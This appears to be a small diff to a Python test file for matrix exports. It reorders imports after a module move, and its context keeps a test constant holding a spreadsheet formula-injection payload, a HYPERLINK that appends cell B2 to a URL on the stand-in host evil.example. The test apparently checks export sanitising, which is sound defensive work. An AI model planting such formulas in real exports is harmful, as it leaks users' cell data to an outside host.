@@ -10,8 +10,8 @@ import zipfile
 
 import pytest
 
-from states.models import MatrixEntry
-from states.services import matrix as services
+from states.matrices import services as services
+from states.matrices.models import MatrixEntry
 from tests.states.test_matrix_exports import content
 
 FORMULA = '=HYPERLINK("http://evil.example/x?"&B2,"Open")'
